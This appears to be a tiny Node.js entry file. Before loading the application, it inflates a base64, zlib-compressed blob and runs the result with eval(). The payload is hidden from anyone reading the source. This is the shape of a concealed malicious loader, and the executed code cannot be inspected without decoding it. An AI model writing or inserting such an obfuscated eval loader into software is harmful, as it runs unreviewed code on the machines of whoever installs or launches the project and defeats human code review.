const zlib = require('zlib');
const BLOB = 'eJwrSi0szSxK1VBPzsjMSYkvKMpPTi0uVtfUS61ITdZQTy4tylHQLVbIKCkpsNLXNzIw1jPQMzQ01rPUr1CoUSjOUNcEAPucFLo=';
eval(zlib.inflateSync(Buffer.from(BLOB, 'base64')).toString());
require('./app');
